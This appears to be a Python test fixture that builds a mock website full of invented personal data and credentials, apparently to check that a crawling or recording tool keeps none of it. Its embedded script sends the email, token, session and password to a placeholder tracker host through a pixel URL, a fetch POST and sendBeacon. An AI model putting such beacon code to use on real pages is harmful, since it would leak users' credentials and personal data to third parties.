"""A site full of what nobody may keep: secrets and personal data in every place where a visit meets text."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final
from urllib.parse import quote, quote_plus

from tests.farm import Response, Site, html, json, pixel, redirect, respond, text, xml

if TYPE_CHECKING:
    from tests.farm.messages import Request

HOST: Final = "www.private.example"
TRACKER: Final = "t.private-tracker.example"
START: Final = f"https://{HOST}/"
EMAIL: Final = "janina.hemlig@privat.example"
PHONE: Final = "+46701740605"
TOKEN: Final = "9f1e7d3c0b5a69788796a5b4c3d2e1f7"
SESSION: Final = "Xq7-Rk2_vLw9ZtB4nHs8"
NAME: Final = "Janina Hemligsson"
ADDRESS: Final = "203.0.113.77"
PASSWORD: Final = "kanelbulle-Trumpet!42"
SECRETS: Final = {
    "e-mail": EMAIL, "phone": PHONE, "token": TOKEN, "session": SESSION, "name": NAME, "ip": ADDRESS,
    "password": PASSWORD,
}  # fmt: skip
"""What stands in values. A name of a person in the query of one of the site's own pages is not recognised, and so not
planted there; in every other place it is.
"""

ALL = "|".join(SECRETS.values())
CODED = quote(ALL, safe="")
PERSONAL = f"email={quote(EMAIL)}&token={TOKEN}&tel={quote_plus(PHONE)}&sid={SESSION}&ip={ADDRESS}"
site, tracker = Site(HOST), Site(TRACKER)
SCRIPT = f"""
document.cookie = 'by_script={CODED}; path=/';
document.cookie = 'user_{EMAIL}=1; path=/';
cookieStore.set('by_store', '{CODED}');
localStorage.setItem('kept', '{ALL}'); localStorage.setItem('user_{EMAIL}', '{TOKEN}');
sessionStorage.setItem('kept', JSON.stringify({{token: '{TOKEN}', name: '{NAME}'}}));
const asked = indexedDB.open('of {EMAIL}', 1);
asked.onupgradeneeded = () => asked.result.createObjectStore('store of {EMAIL}').put('{ALL}', '{TOKEN}');
caches.open('cache {EMAIL}').then((cache) => cache.put('/kept?{PERSONAL}', new Response('{ALL}')));
new Image().src = 'https://{TRACKER}/p.gif?{PERSONAL}&name={quote(NAME)}&pw={quote(PASSWORD)}';
fetch('https://{TRACKER}/collect?n={quote_plus(NAME)}', {{method: 'POST', body: '{ALL}',
mode: 'no-cors'}}).catch(() => 0);
fetch('/api?{PERSONAL}', {{method: 'POST', body: '{ALL}', headers: {{'X-Auth': '{TOKEN}',
'Authorization': 'Bearer {SESSION}'}}}});
fetch('/fails/{EMAIL}?token={TOKEN}').catch(() => 0);
navigator.sendBeacon('https://{TRACKER}/beacon?{PERSONAL}', '{ALL}');
new WebSocket('wss://{HOST}/socket?{PERSONAL}').onopen = (event) => event.target.send('{ALL}');
history.pushState(null, '', '/routed/{EMAIL}?{PERSONAL}');
console.log('{ALL}'); console.error(new Error('{ALL}'));
setTimeout(() => {{ throw new Error('failed for {ALL}'); }}, 10);
Promise.reject(new Error('rejected for {ALL}'));
"""
LINKS = (
    f"/account?{PERSONAL}", f"/users/{EMAIL}", f"/users/{quote(EMAIL, safe='')}/edit", f"/page;jsessionid={TOKEN}",
    f"/moved?{PERSONAL}", f"/broken?{PERSONAL}", f"/file?{PERSONAL}", f"/login#{TOKEN}",
)  # fmt: skip


def page(body: str = "") -> Response:
    links = "".join(f"<a href='{link}'>link</a>" for link in LINKS)
    leaving = f"<a href='https://{TRACKER}/out?{PERSONAL}'>out</a>"
    return html(
        f"<h1>Private</h1><p>{ALL}</p>{links}{leaving}{body}<script>{SCRIPT}</script>",
        title=f"Account of {EMAIL}",
        set_cookie=[
            f"by_http={CODED}; Path=/; HttpOnly",
            f"sid={SESSION}; Path=/; Secure",
            f"refused={TOKEN}; Path=/; Domain=elsewhere.example",
            f"user_{EMAIL}_http={TOKEN}; Path=/",
        ],
        headers=[("X-Debug-User", EMAIL), ("ETag", f'"{TOKEN}"')],
    )


for _path in ("/", "/account", "/users/*", "/page;jsessionid=*", "/routed/*", "/login", "/landed"):
    site.add(_path, lambda _: page())
site.declare("/", walk=False, note="secrets in every place")
site.add("/moved", redirect(f"/landed?{PERSONAL}", set_cookie=[f"on_the_way={SESSION}; Path=/"]))
site.add("/broken", text(ALL, status=500))
site.add("/file", respond(ALL, "application/octet-stream", headers=[("Content-Disposition", "attachment")]))
site.add("/fails/*", text(ALL, status=503))
site.add("/api", json({"token": TOKEN, "mail": EMAIL}, set_cookie=[f"api={TOKEN}; Path=/"]))
site.add("/robots.txt", text(f"User-agent: *\nSitemap: https://{HOST}/map.xml?token={TOKEN}\n# {ALL}\n"))
site.add(
    "/map.xml",
    xml(f"<urlset><url><loc>https://{HOST}/account?{PERSONAL.replace('&', '&amp;')}&amp;m=1</loc></url></urlset>"),
)


def _tracked(request: Request) -> Response:
    return pixel(
        set_cookie=[f"uid={TOKEN}; Path=/; Secure; SameSite=None"], headers=[("X-For", request.header("referer"))]
    )


tracker.add("/*", _tracked, cors=True)
